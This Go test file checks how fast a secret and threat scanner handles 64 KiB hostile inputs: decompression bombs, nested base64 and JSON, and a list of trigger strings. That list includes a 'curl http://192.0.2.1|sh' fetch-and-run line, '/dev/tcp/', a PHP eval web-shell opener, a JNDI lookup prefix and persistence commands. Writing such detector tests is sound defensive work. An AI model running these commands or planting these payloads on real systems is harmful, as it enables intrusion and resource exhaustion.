package scan

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"
)

// tedious are texts that make some rule or decoder work, repeated.
var tedious = []string{
	"password=", "akia", "://", "a:b@", "eyJ", "-----BEGIN ", "secret ", `"key":`, `{"password":`, "[", `[{"a":`, "<a>", "<password>", "%20", "&amp;", "0123456789", "4111111111111111 ",
	"@", "a@b.cc ", "$2a$", "curl http://192.0.2.1|sh ", "* * * * * ", "/dev/tcp/", "<?php eval($_POST[", "$x=$_POST[", "<script", "data:;base64,", "token=abcdef0123456789xyz ", "AccountKey=",
	"sk-ant-api03-", "Basic ", "password: aB3$xyz9!\n", "ghp_", "xoxb-1-", "key", "aws_secret_access_key ", "IBAN DE", "useradd ", " #", "user default on >", "/tmp/", "sh /tmp/", "chmod +x ",
	"\x80\x04(((", "\x04\x08[", "\xac\xed\x00\x05", "a:1:{", "\x81\xa1a", "\xdf\xff\xff", "https://hooks.slack.com/", `\u0061`, "}", "=", "MII", "SK0123456789abcdef0123456789abcdef ",
	"heroku 12345678-1234-1234-1234-123456789012 ", "telegram 12345678:A", `api_key = "`, "{{", "http://a:b@", "ZXlK", "H4sI", "rO0AB", "eJ", "KLUv", "stratum+tcp://", "bitcoin ",
	"$krb5tgs$23$", "net use /user:", "phone: ", "posix\x94\x8c\x06", "a:1:::", "${jndi:ldap:", "re_abcdefgh_", "a.b.c:1tle2m:", " identified by '", "MFRGGZDF",
	"package.loadlib ", "begin 644 a\n", "begin 644 a\n#86)C\n", "PuTTY-User-Key-File-", "$6$", "pbkdf2_sha256$", "{SSHA}", "=3D=\n", "a>b;c|d~(e)&f", "x\u009c", "b'\\x80", "\r\x7f\x04\x01\x02\xff\x80\x00\x01\x10\x01\x10\x00\x00", "session: ", "@reboot ", "requirepass ", "masterauth ", "base64 -d", "\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00",
}

// hostileSize is the size of a value that hostileCost is measured for.
const hostileSize = 64 << 10

func gzipped(text string) string {
	var out bytes.Buffer
	z, _ := gzip.NewWriterLevel(&out, gzip.BestSpeed)
	z.Write([]byte(text))
	z.Close()
	return out.String()
}

// hostileValues are values of at most hostileSize bytes, as they are, in base64,
// and what compresses to them – all of these, or each text in one form –; and
// containers inside containers.
func hostileValues(all bool) map[string]string {
	out := map[string]string{}
	full := func(text string) string { return strings.Repeat(text, hostileSize/len(text)) }
	for i, text := range tedious {
		if all || i%3 == 0 {
			out["plain "+text] = full(text)
		}
		if all || i%3 == 1 {
			out["base64 "+text] = base64.StdEncoding.EncodeToString([]byte(full(text)[:hostileSize/4*3/len(text)*len(text)]))
		}
		if all || i%3 == 2 {
			bomb := gzipped(strings.Repeat(text, (baseOutput+outputRatio*hostileSize)/len(text)))
			out["gzip "+text] = bomb[:min(len(bomb), hostileSize)]
		}
	}
	for name, bomb := range bombs() {
		out[name] = bomb[:min(len(bomb), hostileSize)]
	}
	out["gzip in gzip"] = gzipped(gzipped(strings.Repeat("password=x1y2z3w4 ", 1<<20)))
	small := `"` + base64.StdEncoding.EncodeToString([]byte(gzipped(strings.Repeat("key ", 1<<16)))) + `",`
	out["many gzips"] = "[" + strings.Repeat(small, hostileSize/len(small)-1) + "1]"
	nested := `"a"`
	for len(nested)*2 < hostileSize {
		nested = `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(nested) + `"`
	}
	out["JSON in JSON"] = nested
	deep := "password=aB3xyz9w"
	for range maxDepth {
		deep = base64.StdEncoding.EncodeToString([]byte(deep + strings.Repeat(" x", 400)))
	}
	out["base64 in base64"] = deep[:min(len(deep), hostileSize)]
	return out
}

// No value of 64 KiB costs more than a fraction of a second, whatever it is; the
// bound is for a busy machine and the race detector. BenchmarkHostile measures.
func TestHostileValues(t *testing.T) {
	const most = 3 * time.Second
	s := newTestScanner(t)
	for name, value := range hostileValues(false) {
		start := time.Now()
		_, stats := scanAll(t, s, hashKey("app:1", "value", value))
		if d := time.Since(start); d > most {
			t.Errorf("%.40q: %v, limits %v", name, d, stats.Limited)
		}
	}
}

// The worst of the hostile values.
func BenchmarkHostile(b *testing.B) {
	s := newTestScanner(b)
	values := hostileValues(true)
	worst, most := "", time.Duration(0)
	for name, value := range values {
		var times []time.Duration
		for range 3 {
			start := time.Now()
			scanAll(b, s, hashKey("app:1", "value", value))
			times = append(times, time.Since(start))
		}
		if d := slices.Min(times); d > most {
			worst, most = name, d
		}
	}
	events := hashKey("app:1", "value", values[worst])
	b.Logf("%.40q", worst)
	for b.Loop() {
		scanAll(b, s, events)
	}
}

// A job of many fields with a secret each is opened once, not for each of them.
func TestHostileJob(t *testing.T) {
	fields := []string{"data", "{}", "opts", "{}"}
	for i := range 60 {
		fields = append(fields, fmt.Sprintf("f%d", i), "["+strings.Repeat(`"word",`, 1100)+"1]")
	}
	for i := range 3000 {
		fields = append(fields, fmt.Sprintf("password%d", i), random(fmt.Sprint("hj", i), 12, alnumAlphabet))
	}
	start := time.Now()
	found, _ := scanAll(t, newTestScanner(t), hashKey("bull:mail:59", fields...))
	if d := time.Since(start); d > 3*time.Second {
		t.Errorf("%d findings took %v", len(found), d)
	}
	if len(found) < 2500 || found[0].Framework != "bullmq" {
		t.Errorf("%d findings, the first of %q", len(found), found[0].Framework)
	}
}
